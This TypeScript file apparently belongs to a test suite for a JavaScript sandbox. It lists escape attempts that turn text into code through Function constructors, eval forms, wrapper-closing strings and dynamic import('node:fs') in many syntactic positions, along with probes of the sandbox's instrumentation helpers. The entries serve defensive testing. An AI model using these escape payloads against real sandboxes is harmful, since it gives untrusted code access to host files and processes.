import type { AttackEntry } from "../entry.ts";
import { family, type FamilyEntry } from "./define.ts";

/** Class 19: text turned into code. */
const generation: AttackEntry[] = family("code", { breaks: ["I2", "I1"], threat: "D19", target: "vm" }, [
  {
    name: "constructors-by-prototype",
    options: { listeners: true },
    title: "Function and its siblings reached from functions of each kind, of guest and host",
    source: `for (const f of [() => {}, function* () {}, async () => {}, async function* () {}, class {}, host.fresh, host.generate, host.awaitIt, host.generateAsync, host.Point, Function, eval, Array, Object.prototype.toString, host.emitter.on, submit]) for (let p = f; p; p = Object.getPrototypeOf(p)) { const C = p.constructor; if (typeof C !== "function") continue; submit(C); for (const text of ["return process", "return hostCanary()", "return this", "yield hostCanary()"]) { submit(attempt(() => C(text)())); submit(attempt(() => new C(text)())); submit(attempt(() => Reflect.construct(C, [text], Object)())); submit(attempt(() => C(text)().next().value)); attempt(() => C(text)().then(pwn, () => {})); } }`,
  },
  {
    name: "closing-the-wrapper",
    title: "Text for Function that closes the function and goes on outside it",
    source: `const tries = [["}, hostCanary(), function () {"], ["})(); hostCanary(); (function () {"], ["a = 1) { } hostCanary(); (function (", ""], ["/*", "*/) {"], ["a", "}); pwn(arguments); ({"], ["", "} /* "], ["x //", "\\n) { return hostCanary(); } //"], ["a\\n) { return process } function b(", ""], ["}\\u2028hostCanary()\\u2029{"], ["--> \\n hostCanary()"], ["...[a = pwn(this)]", "return 1"]];
      for (const C of [Function, (function* () {}).constructor, (async () => {}).constructor, (async function* () {}).constructor]) for (const t of tries) { pwn(attempt(() => C(...t))); submit(attempt(() => C(...t)())); }`,
    unproved: "plain contexts compile in the guest's own realm too",
  },
  {
    name: "hostile-parts",
    title: "Objects as the parts of Function and eval, converted when the tamed functions use them",
    source: `let n = 0; const part = (...texts) => ({ toString() { pwn(this); return texts[n++ % texts.length]; } }); for (const go of [() => Function(part("a", "}, hostCanary(), {"), part("return 1", "return import('fs')")), () => new Function({ toString: host.fail }), () => Function({ [Symbol.toPrimitive]: host.fresh }), () => eval({ toString: host.fail }), () => (0, eval)(host.object), () => eval(new String("hostCanary()")), () => eval(host.array), () => Function(host.array, "return hostCanary()"), () => Function(Symbol("s")), () => Reflect.construct(Function, ["return this"], host.Point)()]) pwn(attempt(go));`,
  },
  {
    name: "eval-forms",
    title: "eval called directly, indirectly, optionally, by host callbacks, and as a tag",
    source: `const t = "typeof hostCanary === 'function' && hostCanary(); this"; for (const go of [() => eval(t), () => (0, eval)(t), () => eval?.(t), () => eval.call(host.object, t), () => eval.apply(null, [t]), () => Reflect.apply(eval, host, [t]), () => [t].map(eval)[0], () => host.call(eval, t), () => host.mapper([t], eval)[0], () => new Proxy(eval, {})(t), () => globalThis["ev" + "al"](t), () => host.bind(eval, t)(), () => host.echo(eval)(t), () => { with ({ eval }) return eval(t); }, () => { const { eval: e } = globalThis; return e(t); }, () => new (class { static eval = eval; }).constructor.eval(t), () => host.call((f) => f(t), eval)]) pwn(attempt(go)); for (const [go] of [[() => host.sort([t, "1"], eval)], [() => host.replace("hostCanary()", /.+/, eval)]]) pwn(attempt(go)); pwn(host.sloppyThis);`,
  },
  {
    name: "string-timers",
    title: "Hands text to host functions that might compile it",
    source: `for (const f of [host.later, host.laterRaw, host.call, host.tick, host.microtask]) pwn(attempt(() => f("hostCanary()"))); pwn(attempt(() => host.construct("hostCanary()"))); pwn(attempt(() => host.later({ toString() { return "hostCanary()"; } })));`,
  },
  {
    name: "eval-disabled",
    title: "Every compiler of the realm with eval switched off",
    options: { eval: false },
    goal: "late",
    source: `host.later(() => { for (const go of [() => eval("late()"), () => Function("late()")(), () => (0, eval)("late()"), () => new (function* () {}).constructor("late()")().next(), () => new (async () => {}).constructor("late()")(), () => host.call(eval, "late()"), () => host.call(Function, "late()")(), () => Object.getPrototypeOf(async function* () {}).constructor("late()")().next(), () => Reflect.construct(Function, ["late()"])()]) { const r = attempt(go); if (r && r.catch) r.catch(() => {}); } });`,
  },
  {
    name: "shadow-realm-and-friends",
    title: "Globals that compile or make realms: ShadowRealm, Worker, importScripts, setTimeout, WebAssembly imports",
    source: `for (const k of ["ShadowRealm", "Worker", "importScripts", "setTimeout", "require", "process", "module", "global", "globalThis", "root", "GLOBAL", "AsyncWrapProviders", "queueMicrotask", "structuredClone", "fetch", "navigator", "Deno", "Bun", "gc", "d8", "print", "load", "quit", "console", "Buffer", "internalBinding", "primordials", "exports", "__filename", "inspector"]) { const v = attempt(() => globalThis[k]); if (v && v !== globalThis) pwn(v); for (const m of Reflect.ownKeys(Object(v))) if (v !== globalThis) submit(attempt(() => v[m])); } pwn(host.fresh);`,
  },
]);

const IMPORTS: Readonly<Record<string, string>> = {
  plain: `import("node:fs").then(pwn, pwn);`,
  eval: `attempt(() => eval('import("node:fs").then(pwn, pwn)')); attempt(() => (0, eval)('import("fs")').then(pwn, pwn));`,
  function: `for (const C of [Function, (async () => {}).constructor]) { const p = attempt(() => C('return import("node:fs")')()); if (p && p.then) p.then(pwn, pwn); }`,
  "generator-function": `const g = attempt(() => (function* () {}).constructor('yield import("fs")')().next().value); if (g && g.then) g.then(pwn, pwn);`,
  "function-parameter": `const p = attempt(() => Function('a = import("node:fs")', 'return a')()); if (p && p.then) p.then(pwn, pwn);`,
  template: '`${import("node:fs").then(pwn, pwn)}`;',
  "nested-template": "`${`${`${import('fs').catch(pwn)}`}`}`; attempt(() => eval('`${import(\\'fs\\').catch(pwn)}`'));",
  "tagged-template": "(() => {})`${import('fs').then(pwn, pwn)}`;",
  "after-division": `var a = 4, g = 2; a / import("node:fs").then(pwn, pwn) / g;`,
  "after-regexp": `if (1) /[/]/g.test("x") / import("node:fs").then(pwn, pwn); /import("x")/.test("y");`,
  "ambiguous-slash": `{} /import("x")/g; var x = {} / import("fs").then(pwn, pwn) / 1;`,
  "html-comment": `var z = 1;\n<!-- import("a")\n--> import("b")\nz <!--x\n; import("node:fs").then(pwn, pwn);`,
  "html-comment-close": `/* \n */ --> import("a")\nimport("node:fs").then(pwn, pwn)`,
  "line-separator": `// comment \u2028 import("node:fs").then(pwn, pwn)`,
  "paragraph-separator": `// comment \u2029 import("node:fs").then(pwn, pwn)`,
  "separator-in-eval": `attempt(() => eval('// x \\u2028 import("node:fs").then(pwn, pwn)')); attempt(() => eval('<!-- x \\r import("fs").then(pwn, pwn)'));`,
  "comment-between": `import/* x */(/* y */"node:fs"/* z */).then(pwn, pwn); import\n// x\n("fs").then(pwn, pwn);`,
  attributes: `import("node:fs", { with: { type: "json" } }).then(pwn, pwn);`,
  "trailing-comma": `import("node:fs",).then(pwn, pwn); import("fs", {},).then(pwn, pwn);`,
  "object-specifier": `import({ toString() { pwn(this); return "node:fs"; } }).then(pwn, pwn); import({ toString: host.fail }).then(pwn, pwn); import({ toString: host.recurse }).catch(pwn); import(Symbol("s")).then(pwn, pwn);`,
  "source-phase": `import.source("node:fs").then(pwn, pwn);`,
  "defer-phase": `import.defer("node:fs").then(pwn, pwn);`,
  meta: `pwn(import.meta); pwn(import.meta.resolve);`,
  "in-class": `class A { static p = import("fs").then(pwn, pwn); static { import("fs").then(pwn, pwn); } [import("fs").catch(pwn)] = 1; }`,
  "in-default": `((a = import("node:fs").then(pwn, pwn)) => a)();`,
  "in-async": `(async () => { try { pwn(await import("node:fs")); } catch (e) { pwn(e); } for await (const m of [import("fs")]) pwn(m); })().catch(pwn);`,
  "in-generator": `(function* () { yield import("node:fs").then(pwn, pwn); })().next();`,
  "in-getter-by-host": `host.read({ get x() { return import("fs").then(pwn, pwn); } }, "x"); host.call(() => import("fs").then(pwn, pwn)); host.later(() => { import("fs").then(pwn, pwn); });`,
  "host-runs-eval": `const p = attempt(() => host.call(eval, 'import("node:fs")')); if (p && p.then) p.then(pwn, pwn); const q = attempt(() => host.mapper(['import("fs").catch(pwn)'], eval)); const r = attempt(() => host.call(Function, 'return import("fs")')()); if (r && r.then) r.then(pwn, pwn);`,
  "unicode-escape": `attempt(() => eval('i\\\\u006dport("node:fs").then(pwn, pwn)')); attempt(() => eval('im\\\\u{70}ort("fs").then(pwn, pwn)')); import("fs").catch(pwn);`,
  "built-from-pieces": `const k = "im" + "port"; attempt(() => eval(k + '("node:fs")').then(pwn, pwn)); const f = attempt(() => Function("return " + k + "('fs')")()); if (f && f.then) f.then(pwn, pwn); attempt(() => eval(["i", "mport", "('fs').catch(pwn)"].join("")));`,
  hashbang: `#!x import("a")\nimport("node:fs").then(pwn, pwn);`,
  "hashbang-in-eval": `attempt(() => eval('#! x \\n import("fs").then(pwn, pwn)')); attempt(() => Function('#! x \\n return import("fs").catch(pwn)')()); import("fs").catch(pwn);`,
  label: `import: for (;;) { break import; }`,
  "await-as-identifier": `var await = 1; await / import("fs").then(pwn, pwn) /1; var yield_ = 1; var async = (x) => x; async(import("fs").then(pwn, pwn));`,
  "regexp-flags": `/(?<n>a)[[a-z]--[b]]/v; import("fs").then(pwn, pwn);`,
  "let-newline": `var let_ = 1; let\nimport_ = import("fs").then(pwn, pwn);`,
  "string-continuation": `"\\\n import('x')"; '\\u2028'; import("fs").then(pwn, pwn);`,
  "in-with": `with ({ import_: 1 }) { import("fs").then(pwn, pwn); }`,
  "in-new-target": `new (function () { import("fs").then(pwn, pwn); })(); new (class { #p = import("fs").catch(pwn); })();`,
  "method-named-import": `const o = { import(x) { return x; }, get "import"() { return pwn; } }; o.import("x"); o?.import("x"); class A { static import() {} #import() {} } A.import(); import("fs").then(pwn, pwn);`,
};

const imports: FamilyEntry[] = Object.entries(IMPORTS).map(([name, source]) => ({
  name,
  title: `Imports a module dynamically: ${name.replaceAll("-", " ")}`,
  source,
  ...(name === "source-phase" || name === "defer-phase" || name === "meta" || name === "label"
    ? { unproved: "the lines of today refuse this syntax in scripts" }
    : {}),
}));

/** Class 20: dynamic import in every position. */
const dynamicImport: AttackEntry[] = family("import", { breaks: ["I7"], threat: "D20", target: "vm" }, imports);

/** Class 21: the instrumentation itself. */
const instrumentation: AttackEntry[] = family(
  "instrumentation",
  { breaks: ["I7", "I10"], threat: "D21", target: "vm", unproved: "a plain context has no instrumentation" },
  [
    {
      name: "names-on-the-global",
      title: "Looks for the transformer's helpers among all properties of the global, by descriptor and by error text",
      source: `for (const k of Reflect.ownKeys(globalThis)) { const d = Object.getOwnPropertyDescriptor(globalThis, k); pwn(d.value === globalThis ? 0 : d.value); pwn(d.get); } for (let p = Object.getPrototypeOf(globalThis); p; p = Object.getPrototypeOf(p)) for (const k of Reflect.ownKeys(p)) submit(attempt(() => p[k])); try { null.x; } catch (e) { tell(e.stack); }`,
    },
    {
      name: "helper-through-to-string",
      title: "Reads the helper's name out of transformed functions and calls it with odd arguments",
      source: `const f = function () { try { return import("x"); } catch (e) { return e; } }; const text = Function.prototype.toString.call(f); tell(text); for (const name of text.match(/[A-Za-z_$][\\w$]{6,}/g) || []) { const v = attempt(() => globalThis[name]); const w = attempt(() => eval(name)); for (const h of [v, w]) if (typeof h === "function" && !["function", "toString"].includes(name)) { pwn(h); for (const a of [[], [host.error], [{}], [Symbol("s")], ["fs", {}], [null, null, null]]) { const r = attempt(() => h(...a)); pwn(r); if (r && r.catch) r.catch(pwn); } pwn(attempt(() => new h())); pwn(attempt(() => h.call(host.object, host.fresh))); } }`,
    },
    {
      name: "helper-replaced",
      title: "Defines, shadows and deletes every long name that the global has",
      source: `for (const k of Reflect.ownKeys(globalThis)) if (typeof k === "string" && k.length > 12 && !/^[A-Z]/.test(k)) { attempt(() => { globalThis[k] = pwn; }); attempt(() => delete globalThis[k]); attempt(() => Object.defineProperty(globalThis, k, { value: pwn })); } import("fs").then(pwn, pwn); try { host.fail(); } catch (e) { pwn(e); }`,
    },
    {
      name: "with-captures-helper",
      title: "A with statement over a proxy that answers for every name while instrumented code runs",
      source: `const names = []; const spy = new Proxy({}, { has(t, k) { names.push(k); return typeof k === "string" && !["pwn", "host", "submit", "names", "attempt", "e", "eval", "spy", "globalThis", "eval"].includes(k); }, get(t, k) { return k === Symbol.unscopables ? undefined : (...a) => { a.forEach(pwn); return host.fresh; }; } });
      attempt(() => { with (spy) { try { host.fail(); } catch (e) { pwn(e); } import("fs"); } }); names.forEach(pwn); with (spy) { attempt(() => eval("import('fs')")); }`,
    },
    {
      name: "catch-forms",
      title: "Catch clauses with patterns, defaults, var redeclaration and eval inside, around host errors",
      source: `try { host.fail(); } catch ({ constructor: { constructor: F } }) { pwn(F); } try { host.fail(); } catch ({ [attempt(() => "stack")]: s, ...rest }) { pwn(rest); tell(s); } try { host.fail(); } catch ({ message = pwn(this), cause: { x } = host.object }) { pwn(x); } try { host.fail(); } catch (e) { var e = pwn(e); eval("pwn(e)"); } try { host.fail(); } catch { pwn(attempt(() => arguments)); } try { host.recurse(); } catch ({ __proto__: p }) { pwn(p); pwn(p.constructor); }`,
    },
    {
      name: "same-text-two-parses",
      title:
        "Text on which parsers have disagreed: surrogates, BOM, escapes in identifiers, legacy octal, numeric separators",
      source: `const texts = ["\\ufeffimport('fs').catch(pwn)", "var \\\\u{61}b = 1; import('fs').catch(pwn)", "08.5; import('fs').catch(pwn)", "1_0; import('fs').catch(pwn)", "var \\u{2f800} = 1; import('fs').catch(pwn)", "'\\ud800'; import('fs').catch(pwn)", "x = a\\u180e => import('fs')", "yield\\n/1/g; import('fs').catch(pwn)", "var of, let, static, async; async\\n(x => import('fs').catch(pwn))(1)", "({ __proto__: null, __proto__: import('fs').catch(pwn) })", "for (let in {}) import('fs').catch(pwn)", "if (1) function f() { import('fs').catch(pwn) } f()", "a?.3:import('fs').catch(pwn)", "0?.5:import('fs').catch(pwn)", "/(?<\\ud835\\udc9c>.)/; import('fs').catch(pwn)", "class A { static async *#x() { import('fs').catch(pwn) } static { A.#x().next() } }", "label: import('fs').catch(pwn)", "do; while(0) import('fs').catch(pwn)", "var x\\u2028import('fs').catch(pwn)", "@d class A {}; import('fs')", "using\\nx = import('fs')", "<!--\\rimport('fs').catch(pwn)", "\\u2028-->x\\nimport('fs').catch(pwn)", "'use strict'; with({}) import('fs')", "let \\\\u0061wait = import('fs').catch(pwn)"]; for (const t of texts) { const r = attempt(() => (0, eval)(t)); pwn(r); if (r && r.catch) r.catch(pwn); pwn(attempt(() => Function(t)())); }`,
      options: { wait: 20 },
    },
    {
      name: "division-misread",
      title:
        "Words behind which a parser may take a division for a regular expression, so that text and code change places",
      source: String.raw`const words = ["x\nof\n", "x?.in\n", "x?.typeof\n", "of\n", "x++\n", "yield\n", "x = {}\n", "(function* () { yield function* g() { }"];
        for (const w of words) for (const t of ['import("fs").then(pwn, pwn)', 'a + /* */ eval("1")', 'go = function () { try { host.recurse(); } catch (e) { pwn(e); } }'])
          for (const run of [(0, eval), (text) => new Function(text)()])
            attempt(() => run('var x = {}, of = 1, yield_ = 1, go, a = { valueOf() { pwn(globalThis.eval); return 1; } };' + w + '/1+"/;/*", ' + t + ' /* */' + (w[0] === "(" ? "})" : "")));
        with (new Proxy({}, { has: (t, k) => (tell(String(k)), false) })) { x
        of
        /1+"/; } /*"; /* */
        attempt(() => { try { host.recurse(); } catch (e) { pwn(e); } });
        x
        of
        /1+"/;/*"
        } /* */`,
      options: { wait: 20 },
    },
  ],
);

/** Classes 19 to 21. */
export const code: AttackEntry[] = [...generation, ...dynamicImport, ...instrumentation];
